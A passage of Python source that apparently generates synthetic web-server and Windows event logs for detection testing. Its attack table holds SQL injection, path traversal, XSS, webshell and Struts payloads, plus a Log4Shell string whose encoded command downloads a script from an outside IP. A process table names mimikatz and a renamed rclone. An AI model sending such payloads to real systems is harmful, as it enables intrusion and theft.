          "/static/img/logo.svg", "/static/img/hero-winter-sale.webp", "/favicon.ico", "/apple-touch-icon.png",
          "/manifest.webmanifest", "/static/js/runtime.0e5d6a3b.js"]
BOT_PATHS = ["/robots.txt", "/sitemap.xml", "/sitemap-products-1.xml", "/sitemap-products-2.xml", "/feed.xml"]
REFERERS = Weighted([("-", 30), ("https://shop.example.com/", 20), ("https://shop.example.com/shop", 8),
                     ("https://www.google.com/", 12), ("https://www.bing.com/", 2), ("https://duckduckgo.com/", 1),
                     ("https://shop.example.com/cart", 4), ("https://shop.example.com/search?q=headphones", 3),
                     ("android-app://com.google.android.gm/", 0.5), ("https://t.co/", 0.5),
                     ("https://www.facebook.com/", 1), ("https://shop.example.com/product/", 10)])

ATTACKS = Weighted([(a[:3], a[3]) for a in [
    # SQL injection
    ("GET", "/product.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "sqlmap/1.8.3#stable (https://sqlmap.org)", 3),
    ("GET", "/search?q=1%27%20or%201=1#&sort=price", None, 2),
    ("GET", "/api/v1/products?category=1%20UNION%20ALL%20SELECT%20NULL,NULL,@@version--", None, 2),
    ("GET", "/index.php?id=1%27%20AND%20(SELECT%201%20FROM%20(select%28sleep%2810%29))a)--%20", None, 1),
    ("GET", "/shop?order=price%20order%20by%201--", None, 1),
    ("GET", "/item?id=-1%20union%20select%201,group_concat(table_name),3%20from%20information_schema.tables--", None, 1),
    # path traversal
    ("GET", "/download?file=../../../etc/passwd", None, 3),
    ("GET", "/static/..%252f..%252f..%252fetc%252fpasswd?x=..%252f..%252f..%252fetc%252fpasswd", None, 1),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", None, 2),
    ("GET", "/index.php?page=../../../../windows/win.ini", None, 1),
    ("GET", "/view?path=C:/Windows/System32/drivers/etc/hosts", None, 1),
    # XSS
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, 2),
    ("GET", "/search?q=%22%3E%3Csvg%20onload=alert(1)%3E", None, 1),
    ("GET", "/comment?text=<iframe src=javascript:alert(1)>", None, 1),
    # SSTI / Java payloads / Log4Shell
    ("GET", "/search?q={{7*7}}", None, 1),
    ("GET", "/?x=${jndi:ldap://45.155.205.233:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNDUuMTU1LjIwNS4yMzMvYS5zaA==}", "${jndi:ldap://45.155.205.233:1389/TomcatBypass/Command/Base64/Y3VybA==}", 2),
    ("GET", "/struts2-showcase/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29.getInputStream%28%29%29%29%7D/actionChain1.action", None, 1),
    ("POST", "/mgmt/tm/util/bash", "curl/7.88.1", 0.5),
    # web shells and command injection
    ("GET", "/uploads/2026/11/shell.php?cmd=whoami", None, 2),
    ("GET", "/images/c99.php?cmd=cmd%20/c%20dir", None, 1),
    ("GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=upload&target=l1_Lw", None, 1),
    ("GET", "/aspnet_client/system_web/x.aspx?c=powershell+-enc+SQBFAFgA", None, 1),
    # reconnaissance
    ("GET", "/.git/config", None, 4), ("GET", "/.env", None, 5), ("GET", "/wp-login.php", None, 6),
    ("GET", "/xmlrpc.php", None, 3), ("GET", "/phpmyadmin/index.php", None, 3), ("GET", "/.aws/credentials", None, 2),
    ("GET", "/actuator/env", None, 2), ("GET", "/server-status", None, 2), ("GET", "/admin/config.php", None, 2),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None, 2), ("GET", "/boaform/admin/formLogin", None, 1),
    ("GET", "/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", 2),
    ("GET", "/admin", "gobuster/3.6", 2), ("GET", "/", "Mozilla/5.0 zgrab/0.x", 3),
    ("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", 1),
    ("GET", "/backup.zip", "Fuzz Faster U Fool v2.1.0-dev", 1),
    ("GET", "/wp-content/plugins/", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", 1),
    ("GET", "/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36", 4),
]])


def product_path():
    slug = "-".join(R.sample(WORDS, randrange(2, 5)))
    return "/product/%s-%d" % (slug, randrange(1000, 99999))


def nginx_request():
    """method, target, status, bytes, referer flag."""
    r = rand()
    if r < 0.34:
        a = choice(ASSETS)
        if rand() < .3:
            return "GET", a, 304, 0
        return "GET", a, 200, randrange(800, 450000)
    if r < 0.50:
        return "GET", "/images/products/%d/%s.jpg" % (randrange(1000, 99999), choice(["main", "thumb", "zoom", "2", "3"])), \
            choice([200] * 9 + [304]), randrange(4000, 350000)
    if r < 0.62:
        q = rand()
        if q < .4:
            t = "/api/v1/products?category=%s&page=%d&limit=24" % (choice(CATEGORIES).replace("/", "%2F"), randrange(1, 30))
        elif q < .6:
            t = "/api/v1/products/%d" % randrange(1000, 99999)
        elif q < .7:
            t = "/api/v1/cart"
        elif q < .8:
            t = "/api/v1/users/%d/orders?status=%s" % (randrange(10 ** 5, 10 ** 7), choice(["open", "shipped", "all"]))
        elif q < .9:
            t = "/api/v1/recommendations?product_id=%d&session=%s" % (randrange(1000, 99999), hexid(16))
        else:
            t = "/api/v1/inventory/%d/availability?zip=%05d" % (randrange(1000, 99999), randrange(10000, 99999))
        st = choice([200] * 40 + [201, 204, 304, 400, 401, 404, 429, 500, 502])
        return "GET", t, st, randrange(200, 40000) if st < 300 else randrange(0, 300)
    if r < 0.66:
        t = choice(["/api/v1/cart/items", "/api/v1/events", "/api/v1/auth/token", "/api/v1/checkout/session",
                    "/api/v1/analytics/collect", "/login", "/api/v1/newsletter"])
        return "POST", t, choice([200, 200, 201, 201, 204, 400, 401, 422]), randrange(0, 3000)
    if r < 0.80:
        return "GET", product_path() + ("?ref=%s" % choice(["home", "search", "deal", "email"]) if rand() < .3 else ""), \
            choice([200] * 20 + [301, 304, 404]), randrange(20000, 160000)
    if r < 0.86:
        t = "/search?q=%s" % "+".join(R.sample(WORDS, randrange(1, 4)))
        if rand() < .4:
            t += "&sort=%s&page=%d" % (choice(["price_asc", "price_desc", "rating", "newest"]), randrange(1, 6))
        return "GET", t, 200, randrange(15000, 120000)
    if r < 0.93:
        return "GET", "/c/%s%s" % (choice(CATEGORIES), "?page=%d" % randrange(2, 20) if rand() < .3 else ""), \
            choice([200] * 15 + [304]), randrange(30000, 180000)
    if r < 0.97:
        return "GET", choice(PAGES), choice([200] * 10 + [302]), randrange(5000, 90000)
    if r < 0.985:
        return choice(["GET", "HEAD"]), choice(["/healthz", "/health", "/nginx_status"]), 200, randrange(2, 120)
    if r < 0.995:
        return "GET", choice(BOT_PATHS), choice([200, 200, 304]), randrange(200, 80000)
    return choice(["OPTIONS", "PUT", "DELETE"]), "/api/v1/cart/items/%d" % randrange(1, 10 ** 6), choice([200, 204, 404]), randrange(0, 400)


def client_pools():
    return [public_ip() for _ in range(40000)]


CLIENTS = []
SCANNERS = []


def nginx_line(clock):
    clock.tick()
    if rand() < 0.004:
        method, target, ua = ATTACKS.pick()
        ip = choice(SCANNERS)
        status = choice([404, 404, 404, 400, 403, 200, 301, 500])
        size = randrange(150, 600) if status != 200 else randrange(500, 20000)
        ua = ua or UA_WEB.pick()
        ref = "-"
    else:
        method, target, status, size = nginx_request()
        ip = choice(CLIENTS)
        ua = UA_WEB.pick()
        ref = REFERERS.pick()
        if ref.endswith("/product/"):
            ref = "https://shop.example.com" + product_path()
        if ua.startswith(("kube-probe", "ELB-", "Prometheus")):
            ip = "10.0.%d.%d" % (randrange(4), randrange(2, 250))
            method, target, status, size, ref = "GET", "/healthz", 200, 2, "-"
    user = "-" if rand() > 0.002 else choice(["admin", "ops", "jenkins"])
    proto = "HTTP/1.1" if rand() < .45 else "HTTP/2.0"
    return '%s - %s [%s] "%s %s %s" %d %d "%s" "%s"' % (ip, user, clock.clf, method, target, proto, status, size, ref, ua)


# --------------------------------------------------------------------------
# Windows (Sysmon, Security, PowerShell) in the regression-data JSON shape
# --------------------------------------------------------------------------

SYSMON_PROVIDER = {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}}
SECURITY_PROVIDER = {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"}}
PS_PROVIDER = {"#attributes": {"Name": "Microsoft-Windows-PowerShell", "Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A"}}
XMLNS = {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}
SYSMON_CH = "Microsoft-Windows-Sysmon/Operational"
WIN_DOMAIN = "CORP"
WIN_USERS = ["%s%s" % (f[0], l) for f in FIRST for l in LAST][:150]

S32 = "C:\\Windows\\System32\\"
MS = ("Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System", "10.0.22621.4391 (WinBuild.160101.0800)")


def pe(image, desc, company=None, product=None, version=None, original=None):
    c, p, v = MS
    return {"Image": image, "FileVersion": version or v, "Description": desc, "Product": product or p,
            "Company": company or c, "OriginalFileName": original or image.rsplit("\\", 1)[1]}


# Images: their PE metadata.
IMG = {
    "svchost": pe(S32 + "svchost.exe", "Host Process for Windows Services", original="svchost.exe"),
    "conhost": pe(S32 + "conhost.exe", "Console Window Host", original="CONHOST.EXE"),
    "cmd": pe(S32 + "cmd.exe", "Windows Command Processor", original="Cmd.Exe"),
    "powershell": pe("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell", original="PowerShell.EXE"),
    "explorer": pe("C:\\Windows\\explorer.exe", "Windows Explorer", original="EXPLORER.EXE"),
    "services": pe(S32 + "services.exe", "Services and Controller app", original="services.exe"),
    "taskhostw": pe(S32 + "taskhostw.exe", "Host Process for Windows Tasks", original="taskhostw.exe"),
    "backgroundTaskHost": pe(S32 + "backgroundTaskHost.exe", "Background Task Host", original="backgroundTaskHost.exe"),
    "RuntimeBroker": pe(S32 + "RuntimeBroker.exe", "Runtime Broker", original="RuntimeBroker.exe"),
    "dllhost": pe(S32 + "dllhost.exe", "COM Surrogate", original="dllhost.exe"),
    "WmiPrvSE": pe(S32 + "wbem\\WmiPrvSE.exe", "WMI Provider Host", original="Wmiprvse.exe"),
    "SearchProtocolHost": pe(S32 + "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", original="SearchProtocolHost.exe"),
    "SearchFilterHost": pe(S32 + "SearchFilterHost.exe", "Microsoft Windows Search Filter Host", original="SearchFilterHost.exe"),
    "MpCmdRun": pe("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility",
                   product="Microsoft\u00ae Windows\u00ae Operating System", version="4.18.24090.11 (WinBuild.160101.0800)", original="MpCmdRun.exe"),
    "TiWorker": pe("C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4385_none_7e1e0d7f3a3b5c11\\TiWorker.exe",
                   "Windows Modules Installer Worker", original="TiWorker.exe"),
    "MoUsoCoreWorker": pe(S32 + "MoUsoCoreWorker.exe", "MoUSO Core Worker Process", original="MoUsoCoreWorker.exe"),
    "sppsvc": pe(S32 + "sppsvc.exe", "Microsoft Software Protection Platform Service", original="sppsvc.exe"),
    "smartscreen": pe(S32 + "smartscreen.exe", "Windows Defender SmartScreen", original="smartscreen.exe"),
    "consent": pe(S32 + "consent.exe", "Consent UI for administrative applications", original="consent.exe"),
    "wermgr": pe(S32 + "wermgr.exe", "Windows Problem Reporting", original="wermgr.exe"),
    "WerFault": pe(S32 + "WerFault.exe", "Windows Problem Reporting", original="WerFault.exe"),
    "CompatTelRunner": pe(S32 + "CompatTelRunner.exe", "Microsoft Compatibility Telemetry", original="CompatTelRunner.exe"),
    "msiexec": pe(S32 + "msiexec.exe", "Windows\u00ae installer", original="msiexec.exe"),
    "rundll32": pe(S32 + "rundll32.exe", "Windows host process (Rundll32)", original="RUNDLL32.EXE"),
    "sihost": pe(S32 + "sihost.exe", "Shell Infrastructure Host", original="sihost.exe"),
    "ctfmon": pe(S32 + "ctfmon.exe", "CTF Loader", original="CTFMON.EXE"),
    "userinit": pe(S32 + "userinit.exe", "Userinit Logon Application", original="USERINIT.EXE"),
    "gpupdate": pe(S32 + "gpupdate.exe", "Microsoft\u00ae Windows Group Policy Update Utility", original="gpupdate.exe"),
    "ipconfig": pe(S32 + "ipconfig.exe", "IP Configuration Utility", original="ipconfig.exe"),
    "net": pe(S32 + "net.exe", "Net Command", original="net.exe"),
    "net1": pe(S32 + "net1.exe", "Net Command", original="net1.exe"),
    "reg": pe(S32 + "reg.exe", "Registry Console Tool", original="reg.exe"),
    "schtasks": pe(S32 + "schtasks.exe", "Task Scheduler Configuration Tool", original="schtasks.exe"),
    "tasklist": pe(S32 + "tasklist.exe", "Lists the current running tasks", original="tasklist.exe"),
    "whoami": pe(S32 + "whoami.exe", "whoami - displays logged on user information", original="whoami.exe"),
    "certutil": pe(S32 + "certutil.exe", "CertUtil.exe", original="CertUtil.exe"),
    "vssadmin": pe(S32 + "vssadmin.exe", "Command Line Interface for Microsoft\u00ae Volume Shadow Copy Service ", original="VSSADMIN.EXE"),
    "wmic": pe(S32 + "wbem\\WMIC.exe", "WMI Commandline Utility", original="wmic.exe"),
    "mshta": pe(S32 + "mshta.exe", "Microsoft (R) HTML Application host", original="MSHTA.EXE"),
    "regsvr32": pe(S32 + "regsvr32.exe", "Microsoft(C) Register Server", original="REGSVR32.EXE"),
    "bitsadmin": pe(S32 + "bitsadmin.exe", "BITS administration utility", original="bitsadmin.exe"),
    "nltest": pe(S32 + "nltest.exe", "Microsoft\u00ae Logon Server Test Utility", original="nltestrk.exe"),
    "bcdedit": pe(S32 + "bcdedit.exe", "Boot Configuration Data Editor", original="bcdedit.exe"),
    "wevtutil": pe(S32 + "wevtutil.exe", "Eventing Command Line Utility", original="wevtutil.exe"),
    "sc": pe(S32 + "sc.exe", "Service Control Manager Configuration Tool", original="sc.exe"),
    "netsh": pe(S32 + "netsh.exe", "Network Command Shell", original="netsh.exe"),
    "chrome": pe("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "Google LLC", "Google Chrome", "131.0.6778.86", "chrome.exe"),
    "msedge": pe("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "Microsoft Edge", product="Microsoft Edge", version="131.0.2903.70", original="msedge.exe"),
    "msedgewebview2": pe("C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\131.0.2903.70\\msedgewebview2.exe", "Microsoft Edge WebView2",
                         product="Microsoft Edge WebView2", version="131.0.2903.70", original="msedgewebview2.exe"),
    "teams": pe("C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe", "Microsoft Teams",
                product="Microsoft Teams", version="24295.605.3225.8804", original="ms-teams.exe"),
    "outlook": pe("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Microsoft Outlook", product="Microsoft Outlook", version="16.0.18129.20158", original="Outlook.exe"),
    "winword": pe("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Word", product="Microsoft Office", version="16.0.18129.20158", original="WinWord.exe"),
    "excel": pe("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Microsoft Excel", product="Microsoft Office", version="16.0.18129.20158", original="Excel.exe"),
    "onedrive": pe("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "Microsoft OneDrive", product="Microsoft OneDrive", version="24.211.1020.0001", original="OneDrive.exe"),
    "code": pe("C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "Visual Studio Code", product="Visual Studio Code", version="1.95.3", original="electron.exe"),
    "git": pe("C:\\Program Files\\Git\\cmd\\git.exe", "Git for Windows", "The Git Development Community", "Git", "2.47.0.2", "git.exe"),
    "python": pe("C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe", "Python", "Python Software Foundation", "Python", "3.12.7", "python.exe"),
    "node": pe("C:\\Program Files\\nodejs\\node.exe", "Node.js JavaScript Runtime", "Node.js", "Node.js", "20.18.0", "node.exe"),
    "slack": pe("C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.41.97\\slack.exe", "Slack", "Slack Technologies Inc.", "Slack", "4.41.97", "slack.exe"),
    "zoom": pe("C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", "Zoom Workplace", "Zoom Video Communications, Inc.", "Zoom Workplace", "6.2.11.52669", "Zoom.exe"),
    "notepad": pe(S32 + "notepad.exe", "Notepad", original="NOTEPAD.EXE"),
    "acrobat": pe("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "Adobe Acrobat", "Adobe Inc.", "Adobe Acrobat", "24.4.20220.0", "Acrobat.exe"),
    "googleupdate": pe("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "Google Installer", "Google LLC", "Google Update", "1.3.36.372", "GoogleUpdate.exe"),
    "edgeupdate": pe("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "Microsoft Edge Update", product="Microsoft Edge Update", version="1.3.195.35", original="msedgeupdate.dll"),
    "c2r": pe("C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe", "Microsoft Office Click-to-Run (SxS)", product="Microsoft Office", version="16.0.18129.20158", original="OfficeClickToRun.exe"),
    "ime": pe("C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe", "Microsoft Intune Management Extension",
              product="Microsoft Intune", version="1.83.107.0", original="Microsoft.Management.Services.IntuneWindowsAgent.exe"),
    "agentexecutor": pe("C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", "AgentExecutor", product="Microsoft Intune", version="1.83.107.0", original="AgentExecutor.exe"),
    "w3wp": pe("C:\\Windows\\System32\\inetsrv\\w3wp.exe", "IIS Worker Process", product="Internet Information Services", original="w3wp.exe"),
    "java": pe("C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.13.11-hotspot\\bin\\java.exe", "OpenJDK Platform binary", "Eclipse Adoptium", "OpenJDK Platform 17.0.13", "17.0.13.0", "java.exe"),
    "sqlservr": pe("C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", "SQL Server Windows NT - 64 Bit",
                   product="Microsoft SQL Server", version="2022.160.4150.1", original="sqlservr.exe"),
    "mstsc": pe(S32 + "mstsc.exe", "Remote Desktop Connection", original="mstsc.exe"),
    "lsass": pe(S32 + "lsass.exe", "Local Security Authority Process", original="lsass.exe"),
    "winlogon": pe(S32 + "winlogon.exe", "Windows Logon Application", original="WINLOGON.EXE"),
    "mmc": pe(S32 + "mmc.exe", "Microsoft Management Console", original="MMC.EXE"),
    "procdump": pe("C:\\Users\\Public\\procdump64.exe", "Sysinternals process dump utility", "Sysinternals - www.sysinternals.com", "ProcDump", "11.0", "procdump"),
    "mimikatz": pe("C:\\Users\\Public\\Downloads\\m.exe", "mimikatz for Windows", "gentilkiwi (Benjamin DELPY)", "mimikatz", "2.2.0.0", "mimikatz.exe"),
    "psexesvc": pe("C:\\Windows\\PSEXESVC.exe", "PsExec Service", "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "2.43", "psexesvc.exe"),
    "adfind": pe("C:\\Users\\{u}\\AppData\\Local\\Temp\\AdFind.exe", "Joeware ADFind", "www.joeware.net", "AdFind", "1.57.0.0", "AdFind.exe"),
    "rclone": pe("C:\\ProgramData\\rc\\svchost.exe", "Rclone", "https://rclone.org", "Rclone", "1.68.1", "rclone.exe"),
    "curl": pe(S32 + "curl.exe", "The curl executable", "curl, https://curl.se/", "The curl executable", "8.9.1", "curl.exe"),
}
for _k, _v in IMG.items():
    _h = hashlib.sha256(_v["Image"].encode()).hexdigest().upper()
    _v["Hashes"] = "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (_h[:40], _h[40:64] + _h[:8], hashlib.sha256(_h.encode()).hexdigest().upper(), _h[8:40])

CHROME_FLAGS = "--string-annotations --no-pre-read-main-dll --field-trial-handle=%d,i,%d,%d,262144 --variations-seed-version=20241203-180052.394000 --mojo-platform-channel-handle=%d /prefetch:%d"
SVC_GROUPS = ["-k netsvcs -p -s Schedule", "-k netsvcs -p -s BITS", "-k netsvcs -p -s wuauserv", "-k LocalServiceNetworkRestricted -p -s lmhosts",
              "-k NetworkService -p -s Dnscache", "-k wsappx -p -s AppXSvc", "-k UnistackSvcGroup -s CDPUserSvc", "-k DcomLaunch -p",
              "-k LocalSystemNetworkRestricted -p -s SysMain", "-k LocalServiceNoNetworkFirewall -p", "-k netsvcs -p -s gpsvc",
              "-k LocalService -p -s EventSystem", "-k RPCSS -p", "-k netsvcs -p -s Winmgmt", "-k LocalSystemNetworkRestricted -p -s NcbService",
              "-k appmodel -p -s StateRepository", "-k netsvcs -p -s UsoSvc", "-k ClipboardSvcGroup -p -s cbdhsvc"]
DOCS = ["Q4 forecast.xlsx", "Board update - November.docx", "Vendor contract v3.docx", "Expenses 2026-11.xlsx", "Roadmap.pptx",
        "Invoice_88231.pdf", "Team offsite plan.docx", "Headcount.xlsx"]
GIT_ARGS = ["status", "fetch --prune", "pull --rebase", "log --oneline -n 20", "diff --stat", "rev-parse --abbrev-ref HEAD",
            "for-each-ref --format=%(refname:short) refs/heads", "config --get remote.origin.url", "ls-files --others --exclude-standard"]


def u_path(s, user):
    return s.replace("{u}", user)


def q(s):
    return '"%s"' % s


# Benign process creations: (weight, child image key, command line maker, parent image key, parent command line, user kind, integrity)
def _chrome_cl(img):
    t = choice(["renderer", "renderer", "renderer", "utility", "gpu-process", "crashpad-handler"])
    extra = ""
    if t == "renderer":
        extra = " --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%d --time-ticks-at-unix-epoch=-1733011845%06d --launch-time-ticks=%d" % (
            randrange(5, 400), randrange(10 ** 6), randrange(10 ** 9, 10 ** 11))
    elif t == "utility":
        extra = " --utility-sub-type=%s --lang=en-US --service-sandbox-type=%s" % choice(
            [("network.mojom.NetworkService", "none"), ("storage.mojom.StorageService", "service"), ("audio.mojom.AudioService", "audio")])
    return "%s --type=%s %s%s" % (q(img), t, CHROME_FLAGS % (randrange(1000, 9999), randrange(10 ** 15, 10 ** 16), randrange(10 ** 15, 10 ** 16), randrange(1000, 9999), randrange(1, 9)), extra)


BENIGN = [
    (9, "svchost", lambda i, u: "C:\\Windows\\system32\\svchost.exe " + choice(SVC_GROUPS), "services", "C:\\Windows\\system32\\services.exe", "system", "System"),
    (10, "conhost", lambda i, u: "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd", None, "user", "Medium"),
    (20, "chrome", lambda i, u: _chrome_cl(i), "chrome", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "user", "Low"),
    (12, "msedge", lambda i, u: _chrome_cl(i), "msedge", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window --win-session-start", "user", "Low"),
    (5, "msedgewebview2", lambda i, u: _chrome_cl(i) + " --webview-exe-name=ms-teams.exe --embedded-browser-webview=1", "teams", None, "user", "Low"),
    (3, "backgroundTaskHost", lambda i, u: "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:%s" % choice(["BackgroundTaskHost.WebAccountProvider", "App.AppXnme9zjyebb2xnyygh6q9ev6p5d234br2.mca", "CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca"]), "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "user", "Low"),
    (3, "RuntimeBroker", lambda i, u: "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "user", "Medium"),
    (3, "dllhost", lambda i, u: "C:\\Windows\\system32\\DllHost.exe /Processid:{%s}" % choice(["AB8902B4-09CA-4BB6-B78D-A8F59079A8D5", "3EB3C877-1F16-487C-9050-104DBCD66683", "973D20D7-562D-44B9-B70B-5A0F49CCDF3F"]), "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "user", "Medium"),
    (2, "WmiPrvSE", lambda i, u: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "netsvc", "System"),
    (2, "taskhostw", lambda i, u: "taskhostw.exe {%s}" % uuid4().upper(), "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "user", "Medium"),
    (4, "SearchProtocolHost", lambda i, u: "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%d_ Global\\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" " % ((randrange(1, 300),) * 2), "svchost", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "system", "System"),
    (3, "SearchFilterHost", lambda i, u: "\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 %d %d %d 8192 %d " % (randrange(600, 900), randrange(600, 900), randrange(600, 900), randrange(600, 900)), "svchost", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "system", "System"),
    (1, "MpCmdRun", lambda i, u: "\"%s\" %s" % (i, choice(["-wdenable", "SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke", "-IdleTask -TaskName WdCacheMaintenance"])), "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system", "System"),
    (1, "TiWorker", lambda i, u: "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4385_none_7e1e0d7f3a3b5c11\\TiWorker.exe -Embedding", "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "system", "System"),
    (1, "MoUsoCoreWorker", lambda i, u: "C:\\Windows\\System32\\mousocoreworker.exe -Embedding", "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "system", "System"),
    (1, "sppsvc", lambda i, u: "C:\\Windows\\system32\\sppsvc.exe", "services", "C:\\Windows\\system32\\services.exe", "netsvc", "System"),
    (1, "smartscreen", lambda i, u: "C:\\Windows\\System32\\smartscreen.exe -Embedding", "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "user", "Medium"),
    (0.5, "consent", lambda i, u: "consent.exe %d %d %s" % (randrange(800, 9000), randrange(200, 600), "000001F2%08X" % randrange(1 << 32)), "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Appinfo", "system", "System"),
    (0.5, "wermgr", lambda i, u: "C:\\Windows\\system32\\wermgr.exe -upload", "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system", "System"),
    (0.5, "WerFault", lambda i, u: "C:\\Windows\\system32\\WerFault.exe -u -p %d -s %d" % (randrange(1000, 20000), randrange(100, 2000)), "chrome", None, "user", "Medium"),
    (0.5, "CompatTelRunner", lambda i, u: "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:%s.2" % key_id("", 22), "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system", "System"),
    (0.5, "msiexec", lambda i, u: "C:\\Windows\\system32\\msiexec.exe /V", "services", "C:\\Windows\\system32\\services.exe", "system", "System"),
    (1, "rundll32", lambda i, u: "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding", "svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "user", "Medium"),
    (0.5, "sihost", lambda i, u: "sihost.exe", "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s UserManager", "user", "Medium"),
    (0.5, "ctfmon", lambda i, u: "\"ctfmon.exe\"", "svchost", "C:\\Windows\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p -s TabletInputService", "user", "Medium"),
    (0.3, "explorer", lambda i, u: "C:\\Windows\\Explorer.EXE", "userinit", "C:\\Windows\\system32\\userinit.exe", "user", "Medium"),
    (0.3, "userinit", lambda i, u: "C:\\Windows\\system32\\userinit.exe", "winlogon", "winlogon.exe", "user", "High"),
    (0.3, "gpupdate", lambda i, u: "gpupdate.exe /target:computer", "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc", "system", "System"),
    (3, "cmd", lambda i, u: "C:\\Windows\\system32\\cmd.exe /d /s /c \"%s\"" % choice(["git config --get core.autocrlf", "npm run build", "\"C:\\Program Files\\nodejs\\npm.cmd\" --version",
                                                                                       "code --status", "where python", "echo %PATH%"]), "code", None, "user", "Medium"),
    (2, "git", lambda i, u: "\"C:\\Program Files\\Git\\cmd\\git.exe\" " + choice(GIT_ARGS), "code", None, "user", "Medium"),
